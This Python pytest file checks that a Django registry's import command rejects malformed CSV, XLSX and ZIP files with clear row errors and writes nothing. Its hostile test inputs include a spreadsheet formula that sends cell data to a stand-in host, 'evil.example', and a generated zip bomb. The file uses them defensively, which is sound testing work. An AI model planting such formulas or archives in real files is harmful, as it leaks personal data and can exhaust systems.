"""A corpus of malformed files through `awda import --dry-run` and through the commit:
each gives a clear error naming the row (and column where there is one) and writes
nothing — no household, no person, no batch, no audit entry."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import translation
from openpyxl import Workbook

from awda.audit.models import AuditEntry
from awda.imports.columns import COLUMNS
from awda.imports.models import ImportBatch
from awda.registry.models import Household, Person

pytestmark = pytest.mark.django_db


def _row(**values: str) -> dict[str, str]:
    base = dict.fromkeys(COLUMNS, "") | {
        "household_reference": "M-1",
        "camp": "SY080006-HOL",
        "household_nationality": "SY",
        "relationship": "head",
        "first_name_ar": "أحمد",
        "father_name_ar": "محمد",
        "family_name_ar": "الحسن",
        "sex": "M",
        "date_of_birth": "1980-01-01",
        "dob_precision": "exact",
    }
    return base | values


def _csv_text(*rows: dict[str, str]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _xlsx(path: Path, *rows: dict[str, str]) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(list(COLUMNS))
    for row in rows:
        sheet.append([row[c] for c in COLUMNS])
    book.save(path)


def cp1256(path: Path) -> str:
    path.write_bytes(_csv_text(_row()).encode("cp1256"))
    return "UTF-8"


def latin1_garbage(path: Path) -> str:
    path.write_bytes(b"household_reference,camp\n\xff\xfe\xfa\xfb,\x81\x8d\n")
    return "UTF-8"


def truncated_xlsx(path: Path) -> str:
    _xlsx(path, _row())
    path.write_bytes(path.read_bytes()[:700])
    return "xlsx"


def random_bytes_named_xlsx(path: Path) -> str:
    path.write_bytes(bytes(range(256)) * 40)
    return ""


def old_xls(path: Path) -> str:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000)
    return ".xls"


def empty(path: Path) -> str:
    path.write_bytes(b"")
    return "empty"


def huge_cell_csv(path: Path) -> str:
    path.write_text(_csv_text(_row(first_name_ar="ا" * 10_000_000)), encoding="utf-8")
    return "characters"


def huge_cell_xlsx(path: Path) -> str:
    _xlsx(path, _row(), _row(household_reference="M-2", tent="x" * 30_000))
    return "characters"


def formula_injection(path: Path) -> str:
    _xlsx(path, _row(first_name_ar='=HYPERLINK("http://evil.example/?"&B2,"x")'))
    return "formula"


def impossible_dates(path: Path) -> str:
    path.write_text(
        _csv_text(
            _row(date_of_birth="1990-02-30"),
            _row(household_reference="M-2", date_of_birth="32/13/1990"),
            _row(household_reference="M-3", date_of_birth="1850-01-01"),
        ),
        encoding="utf-8",
    )
    return "date"


def control_characters(path: Path) -> str:
    path.write_text(_csv_text(_row(first_name_ar="أحمد\x07")), encoding="utf-8")
    return "control"


def right_to_left_override(path: Path) -> str:
    path.write_text(_csv_text(_row(first_name_lat="Ahmad\u202edemhA")), encoding="utf-8")
    return "right-to-left"


def too_many_cells(path: Path) -> str:
    path.write_text(_csv_text(_row()) + "M-9,SY080006-HOL" + ",x" * 40 + "\n", encoding="utf-8")
    return "row 3"


def zip_bomb(path: Path) -> str:
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("form.csv", "w", force_zip64=True) as member,
    ):
        chunk = b"0" * (1 << 20)
        for _ in range(600):
            member.write(chunk)
    return "zip"


CORPUS: list[Callable[[Path], str]] = [
    cp1256, latin1_garbage, truncated_xlsx, random_bytes_named_xlsx, old_xls, empty,
    huge_cell_csv, huge_cell_xlsx, formula_injection, impossible_dates, control_characters,
    right_to_left_override, too_many_cells, zip_bomb,
]  # fmt: skip
SUFFIX: dict[Callable[[Path], str], str] = {truncated_xlsx: ".xlsx", random_bytes_named_xlsx: ".xlsx", old_xls: ".xls",
          huge_cell_xlsx: ".xlsx", formula_injection: ".xlsx", zip_bomb: ".zip"}  # fmt: skip


def _written() -> tuple[int, int, int, int]:
    return (
        Household.objects.count(),
        Person.objects.count(),
        ImportBatch.objects.count(),
        AuditEntry.objects.count(),
    )


@pytest.mark.parametrize("make", CORPUS, ids=lambda f: f.__name__)
def test_each_malformed_file_gets_a_clear_error_and_writes_nothing(
    make: Callable[[Path], str], tmp_path: Path, org_a: object
) -> None:
    path = tmp_path / f"file{SUFFIX.get(make, '.csv')}"
    expected = make(path)
    before = _written()
    for args in (["--dry-run"], []):
        out, err = io.StringIO(), io.StringIO()
        with translation.override("en"), pytest.raises(SystemExit) as exit_:
            call_command("import", str(path), "--org", "org-a", *args, stdout=out, stderr=err)
        assert exit_.value.code == 1
        lines = out.getvalue().splitlines()
        assert lines and all(line.startswith("row ") for line in lines), lines
        assert expected.lower() in out.getvalue().lower(), lines
        assert all(len(line) < 400 for line in lines)  # a 10 MB cell is not echoed
    assert _written() == before
